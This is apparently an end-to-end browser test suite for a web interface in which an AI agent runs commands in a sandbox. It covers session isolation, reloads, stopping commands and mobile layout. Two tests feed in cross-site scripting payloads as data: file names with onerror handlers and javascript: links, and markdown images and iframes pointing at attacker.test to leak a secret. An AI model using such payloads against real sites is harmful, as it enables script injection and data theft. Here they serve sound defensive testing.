import { mkdir } from "node:fs/promises";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { chromiumPath, launchBrowser } from "./browser.ts";
import { startServer } from "./running-server.ts";
import type { RunningServer } from "./running-server.ts";
import { embedded, sandboxKinds, titleOf } from "./sandbox-kinds.ts";
import type { SandboxKind } from "./sandbox-kinds.ts";

/** The page in a real browser, against a real server. In CI a missing browser is a failure. */
const RESULTS_DIR = join(import.meta.dirname, "../test-results");
const canBrowse = chromiumPath !== undefined || process.env["CI"] !== undefined;
const POLL = { timeout: 60_000 };
const HELLO = "Create a hello world script and run it";

// A browser, a server and Python in WebAssembly share the machine with the tests of other packages.
vi.setConfig({ testTimeout: 120_000 });

/** Gathers what the page shows while a session is opened, which is too short to be looked at. */
const RECORD_OPENING = `
  globalThis.__opening = "";
  new MutationObserver(() => {
    globalThis.__opening += document.querySelector("[data-testid=opening]")?.innerText ?? "";
  }).observe(document, { subtree: true, childList: true, characterData: true });
`;

interface Visitor {
  page: Page;
  context: BrowserContext;
  /** What a page must never do: script errors, breaches of its policy, requests to elsewhere. */
  complaints: string[];
}

for (const kind of sandboxKinds) {
  const canRun = canBrowse && kind.missing === null;
  const title = `${titleOf(kind, "the page")}${canBrowse ? "" : " (skipped: no Chromium was found)"}`;
  describe.skipIf(!canRun)(title, () => describePage(kind));
}

describe.skipIf(!canBrowse)("the page of a server that chose by itself", () => {
  test("warns where Docker could not be used, until that is dismissed", async () => {
    const env = { DOCKER_HOST: "unix:///nonexistent/docker.sock" };
    await using server = await startServer({ kind: { ...embedded, env } });
    const browser = await launchBrowser();
    const page = await browser.newPage();
    await page.goto(server.url);
    const notice = page.getByTestId("fallback-notice");
    expect(await notice.innerText()).toMatch(/embedded, which is no boundary[^]*Docker cannot be/);
    await page.getByTestId("user-name").fill("alice");
    await page.getByTestId("start").click();
    await page.getByTestId("message-box").waitFor();
    await notice.getByRole("button").click();
    expect(await notice.count()).toBe(0);
    await browser.close();
  });
});

function describePage(kind: SandboxKind): void {
  let server: RunningServer;
  let browser: Browser;

  beforeAll(async () => {
    await mkdir(RESULTS_DIR, { recursive: true });
    browser = await launchBrowser();
    server = await startServer({ kind });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.[Symbol.asyncDispose]();
  });

  async function visit(options: { width?: number; height?: number } = {}): Promise<Visitor> {
    const { width = 1440, height = 900 } = options;
    const context = await browser.newContext({ viewport: { width, height } });
    const page = await context.newPage();
    const complaints: string[] = [];
    page.on("pageerror", (error) => complaints.push(error.message));
    page.on("console", (message) => {
      if (/content security policy/i.test(message.text())) complaints.push(message.text());
    });
    page.on("request", (request) => {
      const { origin, protocol } = new URL(request.url());
      const isLocal = origin === server.url || ["blob:", "data:"].includes(protocol);
      if (!isLocal) complaints.push(request.url());
    });
    await page.goto(server.url);
    return { page, context, complaints };
  }

  async function enter(page: Page, name: string): Promise<void> {
    await page.getByTestId("user-name").fill(name);
    await page.getByTestId("start").click();
    await page.getByTestId("message-box").waitFor();
  }

  async function say(page: Page, message: string): Promise<void> {
    const turns = await page.getByTestId("turn").count();
    await page.getByTestId("message-box").fill(message);
    await page.getByTestId("message-box").press("Enter");
    const turn = page.getByTestId("turn").nth(turns);
    await turn.waitFor();
    await expect.poll(() => turn.getAttribute("data-state"), POLL).toBe("completed");
  }

  async function apiSession(name: string): Promise<string> {
    const response = await fetch(`${server.url}/sessions?user_id=${name}`, { method: "POST" });
    return ((await response.json()) as { session_id: string }).session_id;
  }

  async function putFile(session: string, path: string, content: string): Promise<void> {
    const query = new URLSearchParams({ path }).toString();
    const url = `${server.url}/sessions/${session}/files/content?${query}`;
    expect((await fetch(url, { method: "PUT", body: content })).status).toBe(200);
  }

  test("the page says which sandbox runs, and why", async () => {
    const { page, context } = await visit();
    await page.getByTestId("sandbox-badge").click();
    const told = await page.locator("body").innerText();
    expect(told).toContain(`Sandbox: ${kind.name}, `);
    expect(told).toContain("CARREL_SANDBOX says so.");
    await context.close();
  });

  test("a start that takes time says what it waits for", async () => {
    const { page, context } = await visit();
    await page.evaluate<void>(RECORD_OPENING);
    await enter(page, "ida");
    const told = await page.evaluate<string>("globalThis.__opening");
    expect(told).toContain(kind.name === "docker" ? "Starting your computer" : "Opening");
    expect(await page.getByTestId("fallback-notice").count()).toBe(0);
    await context.close();
  });

  test("alice has a script written and run, and bob sees none of it", async () => {
    const alice = await visit();
    await enter(alice.page, "alice");
    await say(alice.page, HELLO);
    const command = alice.page.getByTestId("tool-card").filter({ hasText: "execute" });
    expect(await command.innerText()).toMatch(/python3 hello\.py[^]*exit 0[^]*hello,? world/i);
    const file = alice.page.getByTestId("file-entry").filter({ hasText: "hello.py" });
    await file.waitFor();
    await alice.page.screenshot({ path: join(RESULTS_DIR, `page-${kind.name}.png`) });
    await file.getByRole("button").first().click();
    expect(await alice.page.getByTestId("viewer-text").innerText()).toContain("print(");

    const bob = await visit();
    await enter(bob.page, "bob");
    const listed = bob.page.waitForResponse(/\/files\?/);
    await bob.page.getByTestId("refresh").click();
    expect((await listed).status()).toBe(200);
    expect(await bob.page.getByTestId("file-entry").count()).toBe(0);
    expect(await bob.page.locator("body").innerText()).not.toContain("hello.py");
    expect([...alice.complaints, ...bob.complaints]).toEqual([]);
    await Promise.all([alice.context.close(), bob.context.close()]);
  });

  test("a reload shows the same conversation and files", async () => {
    const { page, context } = await visit();
    await enter(page, "carol");
    await say(page, HELLO);
    await page.reload();
    await page.getByTestId("turn").first().waitFor();
    expect(await page.getByTestId("turn").innerText()).toMatch(/hello,? world/i);
    await page.getByTestId("file-entry").filter({ hasText: "hello.py" }).waitFor();
    await context.close();
  });

  test("a reload in the middle of a turn goes on with it", async () => {
    const { page, context } = await visit();
    await enter(page, "dora");
    await page.getByTestId("message-box").fill("run `echo begin; sleep 3; echo finished`");
    await page.getByTestId("send").click();
    await page.getByTestId("tool-card").filter({ hasText: "begin" }).waitFor();
    await page.reload();
    await page.locator("[data-testid=turn][data-state=completed]").waitFor();
    expect(await page.getByTestId("tool-card").innerText()).toMatch(/begin\s+finished/);
    expect(await page.getByTestId("turn").count()).toBe(1);
    await context.close();
  });

  test("the stop button ends a command that would run on", async () => {
    const { page, context } = await visit();
    await enter(page, "emil");
    await page.getByTestId("message-box").fill("run `echo begin; sleep 600`");
    await page.getByTestId("send").click();
    await page.getByTestId("tool-card").filter({ hasText: "begin" }).waitFor();
    await page.getByTestId("stop").click();
    await page.locator("[data-testid=turn][data-state=cancelled]").waitFor();
    await say(page, HELLO);
    await context.close();
  });

  test("names and contents of files are text, whatever they look like", async () => {
    const names = [
      "<img src=x onerror=window.__xss=1>",
      '"><svg onload=window.__xss=1>',
      "javascript:window.__xss=1",
      "line\nbreak",
      "\u202egnp.exe",
      "x".repeat(255),
      "[link](javascript:window.__xss=1)",
    ];
    const session = await apiSession("frida");
    for (const name of names) await putFile(session, name, "<script>window.__xss=1</script>");
    const { page, context, complaints } = await visit();
    await enter(page, "frida");
    await expect.poll(() => page.getByTestId("file-entry").count()).toBe(names.length);
    for (const entry of await page.getByTestId("file-entry").all()) {
      await entry.getByRole("button").first().click();
      await page.getByTestId("viewer-text").filter({ hasText: "window.__xss" }).waitFor();
      await page.getByTestId("viewer").getByRole("button", { name: /back/i }).click();
    }
    expect(await ranForeignCode(page)).toBe(false);
    expect(await fitsItsWindow(page)).toBe(true);
    expect(complaints).toEqual([]);
    await context.close();
  });

  test("what the model and its tools say is never markup that runs or loads", async () => {
    const session = await apiSession("gustav");
    const hostile = [
      "<img src=https://attacker.test/x onerror=window.__xss=1>",
      "![x](https://attacker.test/?secret) [y](javascript:window.__xss=1)",
      "<script>window.__xss=1</script><iframe src=https://attacker.test>",
      "\u001b]8;;javascript:window.__xss=1\u0007click\u001b]8;;\u0007",
    ].join("\n\n");
    await putFile(session, "hostile.md", hostile);
    const { page, context, complaints } = await visit();
    await enter(page, "gustav");
    await say(page, "read hostile.md");
    await say(page, "run `cat hostile.md`");
    await say(page, hostile);
    expect(await ranForeignCode(page)).toBe(false);
    expect(await page.locator("[href^='javascript:']").count()).toBe(0);
    expect(complaints).toEqual([]);
    await context.close();
  });

  test("the page is usable on a phone", async () => {
    const { page, context, complaints } = await visit({ width: 375, height: 812 });
    await enter(page, "hanna");
    await say(page, HELLO);
    expect(await fitsItsWindow(page)).toBe(true);
    await page.screenshot({ path: join(RESULTS_DIR, `page-phone-${kind.name}.png`) });
    expect(complaints).toEqual([]);
    await context.close();
  });
}

function fitsItsWindow(page: Page): Promise<boolean> {
  return page.evaluate<boolean>(
    "document.documentElement.scrollWidth <= innerWidth && document.documentElement.scrollHeight <= innerHeight",
  );
}

function ranForeignCode(page: Page): Promise<boolean> {
  return page.evaluate<boolean>("'__xss' in globalThis");
}
